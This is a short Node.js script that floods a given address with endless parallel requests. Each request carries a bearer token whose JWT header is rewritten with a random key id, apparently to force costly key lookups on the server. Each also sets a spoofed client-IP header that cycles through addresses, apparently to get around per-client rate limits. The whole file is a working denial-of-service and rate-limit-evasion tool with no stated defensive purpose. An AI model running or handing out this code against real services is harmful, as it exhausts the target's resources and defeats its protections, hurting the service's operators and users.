// Calls without a pause, so many at a time, each with a key id and a client address of its own, until it is stopped.
import { randomUUID } from "node:crypto";

const [address, token, lanes] = process.argv.slice(2);
const rest = token.slice(token.indexOf("."));
let sent = 0;

const lane = async () => {
  for (;;) {
    const header = { alg: "RS256", typ: "at+jwt", kid: randomUUID() };
    const n = ++sent;
    const answer = await fetch(address, {
      headers: {
        Authorization: "Bearer " + Buffer.from(JSON.stringify(header)).toString("base64url") + rest,
        "X-Portcullis-Client-Ip": "198.51." + ((n >> 8) & 255) + "." + (n & 255),
      },
    });
    console.log(answer.status);
  }
};
await Promise.all(Array.from({ length: Number(lanes) }, lane));
